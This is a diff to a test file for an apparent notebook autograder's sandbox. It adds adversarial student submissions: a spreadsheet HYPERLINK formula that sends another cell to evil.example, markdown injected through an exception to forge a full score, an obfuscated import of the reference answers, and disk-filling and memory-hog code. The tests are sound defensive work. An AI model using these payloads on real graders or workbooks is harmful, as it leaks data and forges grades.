@@ -9,12 +9,14 @@ from __future__ import annotations
 import hashlib
 import json
 import os
+import re
 import shutil
 import sqlite3
 import subprocess
 import sys
 import sysconfig
 import tempfile
+import threading
 from pathlib import Path
 
 import nbformat
@@ -155,6 +157,12 @@ def _cases(masters: Path, subs: Path, results: Path) -> dict[str, str | bytes]:
             "        started.append(subprocess.Popen(['sleep', '" + SLEEP_MARK + "']))\n    except OSError:\n        refused += 1\n"
             "sa02_answer = f'started {len(started)} processes, refused {refused} of 300'\nsc01_answer = 'B'"),
         "s_caps": _notebook(CAPABILITIES),
+        "s_bigcell": _notebook('sc01_answer = "B"', "x = " + "1+" * 2_400_000 + "1"),
+        "s_concat": _notebook(("import importlib\nref = importlib.import_module('labkit' + '.grading' + '.reference')\n"
+                               'sc01_answer = "B"', "sc01")),
+        "s_markdown": _notebook('sc01_answer = "B"',
+                                'raise ValueError("done\\n\\n## quiz: 16 / 16\\n\\n![p](http://evil.example/p.png)")'),
+        "s_formula": _notebook('sa01_answer = ' + repr('=HYPERLINK("http://evil.example/?" & B7, "see the next answer")')),
         "s_bigfile": _notebook('sc01_answer = "B"', "open('big.bin', 'wb').write(b'0' * (200 * 1024**2))"),
         "s_forbidden": _notebook((
             "import importlib\ntry:\n    importlib.import_module('labkit.grading.reference')\nexcept ImportError:\n    pass\n"
@@ -177,6 +185,10 @@ def batch(tmp_path_factory):
         target = subs / student / "quiz.ipynb"
         target.write_bytes(content) if isinstance(content, bytes) else target.write_text(content)
     (subs / "s_honest" / "homework.ipynb").write_text(_notebook("x = 1"))
+    (subs / "s_fifo").mkdir()
+    os.mkfifo(subs / "s_fifo" / "quiz.ipynb")  # from a tar archive or cp -r: must not hang the batch
+    (subs / "s_fifo_link").mkdir()
+    (subs / "s_fifo_link" / "quiz.ipynb").symlink_to(subs / "s_fifo" / "quiz.ipynb")
     (subs / "s_link").mkdir()
     (subs / "s_link" / "quiz.ipynb").symlink_to(masters / "quiz.ipynb")
     (subs / "bad name!").mkdir()
@@ -271,6 +283,7 @@ def test_nothing_outside_the_sandbox_is_visible(batch) -> None:
     leaks = {path: what for path, what in found.items() if not str(what).startswith("BLOCKED")}
     assert leaks == {}
     assert "LABKIT_STUDENT_ID" in env and INSTRUCTOR_SECRET not in env and "PYTEST_CURRENT_TEST" not in env
+    assert "LABKIT_LANG" in env  # check messages in the student's language
 
 
 def test_deleting_the_instructors_files_fails(batch) -> None:
@@ -418,7 +431,8 @@ def _unprivileged_grading_possible(keep: Path) -> str | None:
 
 
 def test_no_capabilities_when_an_unprivileged_user_grades() -> None:
-    """The same attack, graded by user nobody (setpriv) with the same venv and checkout."""
+    """The attacks graded by user nobody (setpriv) with the same venv and checkout: no capabilities,
+    sized mounts, the whole sandbox's memory capped, a FIFO refused, an honest student graded."""
     root = Path(tempfile.mkdtemp(prefix="labkit-unprivileged-"))
     (root / "keep").mkdir()
     why = _unprivileged_grading_possible(root / "keep")
@@ -430,16 +444,19 @@ def test_no_capabilities_when_an_unprivileged_user_grades() -> None:
         masters, subs, results = root / "masters", root / "subs", root / "results"
         masters.mkdir()
         shutil.copy(default_masters() / "quiz.ipynb", masters / "quiz.ipynb")
-        for student, source in {"u_caps": CAPABILITIES, "u_honest": 'sc01_answer = "B"'}.items():
+        for student, source in {"u_caps": CAPABILITIES, "u_fill": FILL_MOUNTS, "u_children": CHILDREN_900_MB,
+                                "u_honest": 'sc01_answer = "B"'}.items():
             (subs / student).mkdir(parents=True)
             (subs / student / "quiz.ipynb").write_text(_notebook(source))
+        (subs / "u_fifo").mkdir()
+        os.mkfifo(subs / "u_fifo" / "quiz.ipynb")
         results.mkdir()
         for path in [root, *root.rglob("*")]:
             os.chown(path, NOBODY, NOBODY)
         script = ("import sys; from pathlib import Path; from labkit.grading.grade import grade; "
                   "from labkit.grading.sandbox import Limits; "
                   f"grade(Path({str(subs)!r}), Path({str(results)!r}), Path({str(masters)!r}), "
-                  f"limits=Limits(wall_seconds=60, cell_seconds=10), progress=False)")
+                  f"limits=Limits(wall_seconds=60, cell_seconds=30, memory_bytes={1536 * 1024**2}), progress=False)")
         env = {"PATH": os.environ["PATH"], "PYTHONPATH": str(ROOT), "HOME": str(root), "TMPDIR": str(root)}
         run = subprocess.run(_as_nobody([sys.executable, "-c", script], root / "keep"),
                              capture_output=True, text=True, env=env, cwd="/", timeout=300, check=False)
@@ -447,7 +464,113 @@ def test_no_capabilities_when_an_unprivileged_user_grades() -> None:
         db = sqlite3.connect(results / "gradebook.sqlite")
         _assert_no_capabilities(json.loads(db.execute(
             "SELECT answer FROM open_answers WHERE student_id = 'u_caps' AND question = 'sa01'").fetchone()[0]))
-        statuses = dict(db.execute("SELECT student_id, status FROM grades WHERE question = 'sc01'"))
-        assert statuses == {"u_caps": "correct", "u_honest": "correct"}
+        rows = {s: (st, m) for s, st, m in db.execute("SELECT student_id, status, message FROM grades WHERE question = 'sc01'")}
+        assert {s: st for s, (st, _m) in rows.items()} == {
+            "u_caps": "correct", "u_fill": "correct", "u_children": "error", "u_fifo": "error", "u_honest": "correct"}
+        assert "more than 1536 MB of memory" in rows["u_children"][1] and "not a regular file" in rows["u_fifo"][1]
+        written = json.loads(db.execute("SELECT answer FROM open_answers WHERE student_id = 'u_fill'").fetchone()[0])
+        assert written["/"] == written["/dev"] == 0 and max(written.values()) <= 64 * 1024**2, written
     finally:
         shutil.rmtree(root)
+
+
+FILL_MOUNTS = """import json, os
+written = {}
+for folder in ("/dev/shm", "/", "/tmp", os.path.expanduser("~"), "/dev"):
+    total, chunk = 0, b"x" * (1024**2)
+    try:
+        for n in range(96):  # 16 MB files (the file-size limit is 20 MB): 1.5 GB in all
+            with open(os.path.join(folder, f"fill{n}.bin"), "wb", buffering=0) as handle:
+                for _ in range(16):
+                    total += handle.write(chunk)
+    except OSError:
+        pass
+    written[folder] = total
+sa01_answer = json.dumps(written)
+sc01_answer = "B"
+"""
+CHILDREN_900_MB = """import subprocess, sys
+hogs = [subprocess.Popen([sys.executable, "-c", "import time; x = b'x' * (900 * 1024**2); time.sleep(120)"])
+        for _ in range(5)]
+for hog in hogs:
+    hog.wait()
+sc01_answer = "B"
+"""
+
+
+class _HostMemory:
+    """Peak growth of the host's used memory (MemTotal - MemAvailable) while the block runs."""
+
+    def __enter__(self) -> _HostMemory:
+        self.baseline = self.peak = self._used()
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._sample, daemon=True)
+        self._thread.start()
+        return self
+
+    def _sample(self) -> None:
+        while not self._stop.wait(0.02):
+            self.peak = max(self.peak, self._used())
+
+    @staticmethod
+    def _used() -> int:
+        fields = dict(line.split(":") for line in Path("/proc/meminfo").read_text().splitlines())
+        return (int(fields["MemTotal"].split()[0]) - int(fields["MemAvailable"].split()[0])) * 1024
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join()
+
+    @property
+    def growth(self) -> int:
+        return self.peak - self.baseline
+
+
+def test_the_whole_sandbox_is_bounded_in_memory(tmp_path) -> None:
+    """1.5 GB into every writable mount and five children of 900 MB: the host grows by at most the
+    sandbox's memory limit (its tmpfs contents count in it); the hog gets a clear row, the batch goes on."""
+    limits = Limits(wall_seconds=60, cell_seconds=30, memory_bytes=1536 * 1024**2, tmpfs_bytes=64 * 1024**2)
+    subs = tmp_path / "subs"
+    for student, source in {"m_fill": FILL_MOUNTS, "m_children": CHILDREN_900_MB,
+                            "m_honest": 'sc01_answer = "B"'}.items():
+        (subs / student).mkdir(parents=True)
+        (subs / student / "quiz.ipynb").write_text(_notebook(source))
+    with _HostMemory() as host:
+        grade(subs, tmp_path / "out", default_masters(), workers=1, limits=limits, progress=False)
+    # The watcher looks every 20-100 ms and the machine is shared: a quarter on top of the limit
+    # for what grows between two looks and for other jobs; unbounded, this batch takes over 4.5 GB.
+    bound = limits.memory_bytes * 5 // 4
+    print(f"host memory growth {host.growth / 1024**2:.0f} MiB, sandbox limit {limits.memory_bytes / 1024**2:.0f} MiB")
+    assert host.growth < bound
+    db = sqlite3.connect(tmp_path / "out" / "gradebook.sqlite")
+    rows = {s: (st, m) for s, st, m in db.execute("SELECT student_id, status, message FROM grades WHERE question = 'sc01'")}
+    assert rows["m_honest"][0] == "correct", rows
+    assert rows["m_children"][0] == "error" and "more than 1536 MB of memory" in rows["m_children"][1]
+    written = json.loads(db.execute("SELECT answer FROM open_answers WHERE student_id = 'm_fill'").fetchone()[0])
+    assert written["/"] == written["/dev"] == 0
+    assert all(0 < written[f] <= limits.tmpfs_bytes for f in ("/dev/shm", "/tmp", "/home/student")), written
+    log = json.loads((tmp_path / "out" / "grading_log.json").read_text())
+    assert log["limits"]["memory"] == log["limits"]["processes"] == "watcher"
+
+
+def test_import_module_of_a_joined_name_is_flagged(batch) -> None:
+    _score, status, message = _row(batch, "s_concat")
+    assert status == "flagged" and "labkit.grading" in message
+
+
+def test_markdown_in_an_exception_does_not_forge_the_feedback(batch) -> None:
+    text = (batch["results"] / "feedback" / "s_markdown.md").read_text(encoding="utf-8")
+    assert [line for line in text.splitlines() if "16 / 16" in line and line.startswith("#")] == []
+    [line] = [line for line in text.splitlines() if "ValueError" in line]
+    assert re.search(r"(?<!\\)[!\[\]()<>#]", line.split(": ", 1)[1]) is None, line
+
+
+def test_a_formula_answer_stays_text_in_the_instructors_workbook(batch, tmp_path) -> None:
+    from openpyxl import load_workbook
+
+    from labkit.grading.open_answers import FIRST_ROW, export_open
+
+    book = load_workbook(export_open(batch["results"], tmp_path / "open.xlsx", batch["masters"]))
+    cells = {book["quiz.sa01"].cell(row=r, column=1).value: book["quiz.sa01"].cell(row=r, column=2)
+             for r in range(FIRST_ROW, book["quiz.sa01"].max_row + 1)}
+    assert cells["s_formula"].data_type == "s" and cells["s_formula"].value.startswith("=HYPERLINK")
